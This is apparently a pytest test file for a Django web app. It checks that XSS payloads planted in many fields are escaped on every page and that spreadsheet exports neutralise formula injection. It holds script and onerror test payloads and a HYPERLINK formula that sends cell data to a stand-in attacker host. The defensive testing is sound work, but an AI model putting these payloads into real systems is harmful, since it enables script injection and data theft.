"""Script planted in every user-editable text field is shown escaped on every page.

Each payload is written, through the apps' actions, into an organisation's name, an activity's
name, description, legal basis and volume unit, a contact's name and role, an IT system's
product and vendor, a thesaurus entry, a concept's label, a life event's labels, phrasings and
step texts, and the cost calculator's title. Every page that shows them must contain the
escaped text and never the markup itself.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook
from pytest_django.fixtures import SettingsWrapper

from mellanrum.benefits import actions as ledger_actions
from mellanrum.commonality.actions import do_add_synonym_set, do_record_decision, do_run_analysis
from mellanrum.commonality.analysis import Scope
from mellanrum.commonality.models import Concept, Membership
from mellanrum.conftest import alfa, superuser  # noqa: F401  (fixtures)
from mellanrum.core.models import User
from mellanrum.journeys.actions import StepData, do_save_life_event
from mellanrum.journeys.models import LifeEvent
from mellanrum.landscape.actions import do_create_activity, do_save_contact
from mellanrum.landscape.models import Activity, Contact, Organisation

SCRIPT = '<script>alert("x")</script>'
IMAGE = '"><img src=x onerror=alert(1)>'
# The fragments that would run if a payload reached the page unescaped.
DANGEROUS = {SCRIPT: "<script>alert", IMAGE: "<img src=x"}
# The finder looks for this made-up everyday phrase.
PHRASE = "kvittrande brevlåda"


class Planted:
    """What one payload was planted in."""

    def __init__(self, payload: str, organisation: Organisation, activity: Activity,
                 contact: Contact, event: LifeEvent) -> None:
        self.payload = payload
        self.organisation = organisation
        self.activity = activity
        self.contact = contact
        self.event = event


def assert_escaped(html: str, payload: str, *, shown: bool = True) -> None:
    assert payload not in html
    assert DANGEROUS[payload] not in html
    if shown:
        assert escape(payload) in html


@pytest.fixture(params=[SCRIPT, IMAGE], ids=["script", "img"])
def planted(request: pytest.FixtureRequest, alfa: Organisation,  # noqa: F811
            superuser: User, settings: SettingsWrapper) -> Iterator[Planted]:  # noqa: F811
    settings.TASKS_INLINE = True
    payload: str = request.param
    # No action creates organisations (administrators add them in the admin site), so the
    # user-created organisation is written directly.
    organisation = Organisation.objects.create(
        code="9909", name=f"Kommunalförbundet {payload}", short_name=payload,
        kind="association", county_code="99", county_name="Testlän",
        description=payload, population=1000,
    )
    contact = do_save_contact(organisation, acting_user=superuser, name=f"Anna {payload}",
                              role=payload)
    activity = do_create_activity(
        organisation, acting_user=superuser, key="bygglov", name=f"Bygglov {payload}",
        description=f"Beskrivning {payload}", legal_basis=f"PBL {payload}",
        volume_unit=payload, kind="service", annual_cost_sek=Decimal("1000"),
        volume_per_year=Decimal("10"), owner=contact,
        systems=[(f"Produkt {payload}", f"Leverantör {payload}")],
    )
    do_create_activity(alfa, acting_user=superuser, key="bygglov", name=f"Bygglov {payload}",
                       kind="service", annual_cost_sek=Decimal("2000"))
    do_add_synonym_set([f"bygglov {payload}", "bygglovsansökan"], acting_user=superuser)
    do_run_analysis(Scope.of("", []), acting_user=superuser)
    concept = Membership.objects.get(activity=activity).concept
    do_record_decision(concept, "rename", acting_user=superuser, label=f"Begrepp {payload}")
    event = do_save_life_event(
        None, acting_user=superuser, slug="fientlig", label_sv=f"Livshändelse {payload}",
        label_en=f"Life event {payload}", description=f"Om {payload}",
        synonyms=[PHRASE, f"fras {payload}"],
        steps=[
            StepData(need=f"Behov {payload}", responsible="home_municipality",
                     activity_hints=(f"Bygglov {payload}",), data_items=(f"uppgift {payload}",),
                     lead_time_days=5),
            StepData(need=f"Annat behov {payload}", responsible="other",
                     provider=f"Utförare {payload}"),
        ],
    )
    yield Planted(payload, organisation, activity, contact, event)


@pytest.fixture
def admin_client(client: Client, superuser: User) -> Client:  # noqa: F811
    client.force_login(superuser)
    return client


def test_landscape_pages_escape_planted_text(admin_client: Client, planted: Planted) -> None:
    activity, payload = planted.activity, planted.payload
    pages = [
        reverse("landscape:organisations"),
        reverse("landscape:organisations") + "?q=Kommunalf%C3%B6rbundet",
        reverse("landscape:organisation", args=["9909"]),
        reverse("landscape:activities"),
        reverse("landscape:activities") + "?q=Bygglov",
        reverse("landscape:activity", args=[activity.pk]),
        reverse("landscape:activity_edit", args=[activity.pk]),
        reverse("landscape:activity_delete", args=[activity.pk]),
        reverse("landscape:contact_edit", args=[planted.contact.pk]),
        reverse("landscape:contact_delete", args=[planted.contact.pk]),
        reverse("landscape:audit_log", args=["9909"]),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), payload)


def test_htmx_fragments_escape_planted_text(admin_client: Client, planted: Planted) -> None:
    for url in [reverse("landscape:organisations") + "?q=9909",
                reverse("landscape:activities") + "?q=Bygglov"]:
        response = admin_client.get(url, HTTP_HX_REQUEST="true")
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), planted.payload)


def test_activity_page_shows_every_planted_field(admin_client: Client, planted: Planted) -> None:
    html = admin_client.get(reverse("landscape:activity", args=[planted.activity.pk])
                            ).content.decode()
    for text in [f"Beskrivning {planted.payload}", f"PBL {planted.payload}",
                 f"Produkt {planted.payload}", f"Leverantör {planted.payload}"]:
        assert escape(text) in html, text


def test_organisation_page_shows_contact_and_systems_escaped(
    admin_client: Client, planted: Planted
) -> None:
    html = admin_client.get(reverse("landscape:organisation", args=["9909"])).content.decode()
    for text in [f"Anna {planted.payload}", f"Produkt {planted.payload}",
                 f"Kommunalförbundet {planted.payload}"]:
        assert escape(text) in html, text


def test_exports_carry_planted_text_as_plain_data(admin_client: Client, planted: Planted) -> None:
    csv_response = admin_client.get(reverse("landscape:export", args=["9909", "csv"]))
    assert csv_response.status_code == 200
    assert csv_response["Content-Type"].startswith("text/csv")
    assert csv_response["Content-Disposition"].startswith("attachment")
    text = csv_response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert any(f"Bygglov {planted.payload}" in row for row in rows)
    xlsx_response = admin_client.get(reverse("landscape:export", args=["9909", "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).worksheets[0]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert f"Bygglov {planted.payload}" in values


def test_exports_neutralise_formulas(admin_client: Client, alfa: Organisation,  # noqa: F811
                                     superuser: User) -> None:  # noqa: F811
    formula = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'
    do_create_activity(alfa, acting_user=superuser, key="formel", name=formula,
                       description="+1+2", legal_basis="@SUM(1,2)", volume_unit="-3+4",
                       kind="service")
    text = admin_client.get(reverse("landscape:export", args=["9901", "csv"])
                            ).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for value in [formula, "+1+2", "@SUM(1,2)", "-3+4"]:
        assert value not in cells
        assert "'" + value in cells
    xlsx = admin_client.get(reverse("landscape:export", args=["9901", "xlsx"])).content
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert formula not in values
    assert "'" + formula in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_commonality_pages_escape_planted_text(admin_client: Client, planted: Planted) -> None:
    concept = Membership.objects.get(activity=planted.activity).concept
    assert concept.label == f"Begrepp {planted.payload}"
    pages = [
        reverse("commonality:overview"),
        reverse("commonality:concept", args=[concept.concept_id]),
        reverse("commonality:matrix"),
        reverse("commonality:opportunities"),
        reverse("commonality:thesaurus"),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), planted.payload)


def test_concept_search_echoes_query_escaped(admin_client: Client, planted: Planted) -> None:
    concept = Concept.objects.filter(label__startswith="Begrepp").latest("pk")
    url = reverse("commonality:concept", args=[concept.concept_id])
    response = admin_client.get(url, {"q": planted.payload})
    assert response.status_code == 200
    assert_escaped(response.content.decode(), planted.payload)


def test_journey_pages_escape_planted_text(admin_client: Client, planted: Planted) -> None:
    slug = planted.event.slug
    pages = [
        reverse("journeys:life_events"),
        reverse("journeys:life_event", args=[slug]),
        reverse("journeys:life_event", args=[slug]) + "?municipality=9901",
        reverse("journeys:life_event_edit", args=[slug]),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), planted.payload)
    journey = admin_client.get(pages[2]).content.decode()
    for text in [f"Behov {planted.payload}", f"Utförare {planted.payload}"]:
        assert escape(text) in journey, text


def test_finder_escapes_planted_text_and_the_query(client: Client, planted: Planted) -> None:
    response = client.get(reverse("journeys:finder"), {"place": "Alfa", "q": PHRASE})
    assert response.status_code == 200
    assert_escaped(response.content.decode(), planted.payload)
    response = client.get(reverse("journeys:finder"),
                          {"place": planted.payload, "q": f"{PHRASE} {planted.payload}"})
    assert response.status_code == 200
    assert_escaped(response.content.decode(), planted.payload)


def test_calculator_escapes_title(client: Client, alfa: Organisation,  # noqa: F811
                                  planted: Planted) -> None:
    data = {
        "p-TOTAL_FORMS": "5", "p-INITIAL_FORMS": "0", "p-MIN_NUM_FORMS": "0",
        "p-MAX_NUM_FORMS": "20", "kind": "cost", "total": "1 500 000",
        "title": f"Plattform {planted.payload}", "action": "compute",
        "p-0-organisation": "9901", "p-0-alone": "1 000 000", "p-0-usage": "",
        "p-1-organisation": "9909", "p-1-alone": "800 000", "p-1-usage": "",
    }
    response = client.post(reverse("benefits:calculator"), data)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Shapleyvärde" in html
    assert_escaped(html, planted.payload)
    export = client.post(reverse("benefits:calculator"), data | {"action": "export"})
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    assert sheet["A1"].value == f"Plattform {planted.payload}"


def test_community_pages_escape_planted_text(admin_client: Client, planted: Planted,
                                             superuser: User) -> None:  # noqa: F811
    import datetime

    from django.utils import timezone

    from mellanrum.community.actions import (
        do_create_event,
        do_create_network,
        do_link_network_concept,
        do_register,
    )

    payload = planted.payload
    network = do_create_network(acting_user=superuser, title=f"Nätverk {payload}",
                                description=f"Om {payload}", visibility="public")
    concept = Membership.objects.get(activity=planted.activity).concept
    do_link_network_concept(network, acting_user=superuser, concept_id=concept.concept_id)
    start = timezone.now() + datetime.timedelta(days=20)
    event = do_create_event(acting_user=superuser, organiser=planted.organisation,
                            title=f"Seminarium {payload}", description=f"Program {payload}",
                            place=f"Sal {payload}", starts_at=start,
                            ends_at=start + datetime.timedelta(hours=2), network=network)
    guest = User.objects.create(username="gast", first_name=f"Gäst {payload}",
                                organisation=planted.organisation)
    network.members.create(user=guest)
    do_register(event, guest)
    pages = [
        reverse("community:networks"),
        reverse("community:network", args=[network.pk]),
        reverse("community:network_edit", args=[network.pk]),
        reverse("community:events"),
        reverse("community:event", args=[event.pk]),
        reverse("community:event_edit", args=[event.pk]),
        reverse("community:activity_counterparts", args=[planted.activity.pk]),
        reverse("community:concept_counterparts", args=[concept.concept_id]),
        reverse("community:activity_counterparts", args=[planted.activity.pk])
        + "?county=%3Cs&association=%22%3E%3Cimg",
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), payload)
    detail = admin_client.get(reverse("community:event", args=[event.pk])).content.decode()
    for text in [f"Program {payload}", f"Sal {payload}", f"Gäst {payload}"]:
        assert escape(text) in detail, text
    counterparts = admin_client.get(reverse("community:concept_counterparts",
                                            args=[concept.concept_id])).content.decode()
    assert escape(f"Anna {payload}") in counterparts
    assert escape(f"Gäst {payload}") in counterparts
    csv_text = admin_client.get(reverse("community:event_attendees", args=[event.pk, "csv"])
                                ).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text), delimiter=";") for cell in row]
    assert f"Gäst {payload}" in cells
    ics = admin_client.get(reverse("community:event_calendar", args=[event.pk])).content
    assert f"Seminarium {payload}".encode() in ics.replace(b"\r\n ", b"")


def test_health_pages_escape_planted_text(admin_client: Client, client: Client,
                                          planted: Planted, alfa: Organisation,  # noqa: F811
                                          superuser: User) -> None:  # noqa: F811
    from mellanrum.collaborations.actions import do_add_partner, do_create_initiative
    from mellanrum.collaborations.consent_actions import do_answer_invitation
    from mellanrum.health import actions as health

    initiative = do_create_initiative(
        acting_user=superuser, lead=alfa, title=f"Samverkan {planted.payload}",
        purpose="Syfte", phase="idea")
    do_answer_invitation(do_add_partner(initiative, acting_user=superuser,
                                        organisation=planted.organisation),
                         acting_user=None, accept=True)
    round_ = health.do_open_round(initiative, acting_user=superuser,
                                  title=f"Omgång {planted.payload}")
    links = health.do_create_invitations(round_, acting_user=superuser,
                                         organisation=planted.organisation, count=4)
    keys = round_.instrument.item_keys
    for link in links[:3]:
        health.do_submit_response(link.token, answers=dict.fromkeys(keys, 4),
                                  comment=f"Kommentar {planted.payload}")
    survey = client.get(reverse("health:survey", args=[links[3].token])).content.decode()
    assert_escaped(survey, planted.payload)
    health.do_close_round(round_, acting_user=superuser)  # comments are released on closing
    pages = [
        reverse("health:initiative", args=[initiative.pk]),
        reverse("health:round", args=[round_.pk]),
        reverse("health:invitations", args=[round_.pk]),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), planted.payload)
    results = admin_client.get(pages[1]).content.decode()
    assert escape(f"Kommentar {planted.payload}") in results
    created = admin_client.post(pages[2], {"organisation": "9909",
                                           "emails": "anna@example.org", "format": "html"})
    assert_escaped(created.content.decode(), planted.payload)
    xlsx = admin_client.get(reverse("health:round_export", args=[round_.pk])).content
    book = load_workbook(io.BytesIO(xlsx))
    assert all(cell.data_type != "f" for sheet in book.worksheets
               for row in sheet.iter_rows() for cell in row)


def test_benefits_follow_up_pages_escape_planted_text(admin_client: Client, planted: Planted,
                                                      alfa: Organisation,  # noqa: F811
                                                      superuser: User) -> None:  # noqa: F811
    from mellanrum.collaborations import actions as collab

    initiative = collab.do_create_initiative(
        acting_user=superuser, lead=alfa, title=f"Samverkan {planted.payload}",
        purpose="Syfte", phase="idea", is_public=True)
    from mellanrum.collaborations.consent_actions import do_answer_invitation

    do_answer_invitation(collab.do_add_partner(initiative, acting_user=superuser,
                                               organisation=planted.organisation),
                         acting_user=None, accept=True)
    row = ledger_actions.do_add_ledger_row(initiative, acting_user=superuser,
                                   organisation=planted.organisation, year=2025, kind="money",
                                   planned=Decimal(1000), description=f"Nytta {planted.payload}")
    ledger_actions.do_add_ledger_row(initiative, acting_user=superuser,
                             organisation=planted.organisation, year=2025, kind="qualitative",
                             description=f"Kvalitet {planted.payload}")
    ledger_actions.do_choose_cost_split(initiative, acting_user=superuser, joint_cost=Decimal(800),
                                standalone={alfa.code: 400, "9909": 600}, method="shapley",
                                rationale=f"Motivering {planted.payload}")
    goal = collab.do_add_goal(initiative, acting_user=superuser, title=f"Mål {planted.payload}",
                              indicator="Andel", target="90 %",
                              target_date=initiative.created_at.date().replace(year=2099))
    pages = [
        reverse("benefits:ledger", args=[initiative.pk]),
        reverse("benefits:cost_split", args=[initiative.pk]),
        reverse("collaborations:initiative", args=[initiative.pk]),
        reverse("benefits:ledger_row_edit", args=[row.pk]),
        reverse("collaborations:item_edit", args=[initiative.pk, "goal", goal.pk]),
        reverse("collaborations:portfolio"),
        planted.organisation.get_absolute_url(),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), planted.payload)
    ledger = admin_client.get(pages[0]).content.decode()
    assert escape(f"Nytta {planted.payload}") in ledger
    assert escape(f"Kvalitet {planted.payload}") in ledger
    split = admin_client.get(pages[1]).content.decode()
    assert escape(f"Motivering {planted.payload}") in split
    xlsx = admin_client.get(reverse("benefits:ledger_export", args=[initiative.pk]))
    book = load_workbook(io.BytesIO(xlsx.content))
    assert all(cell.data_type != "f" for sheet in book.worksheets
               for r in sheet.iter_rows() for cell in r)
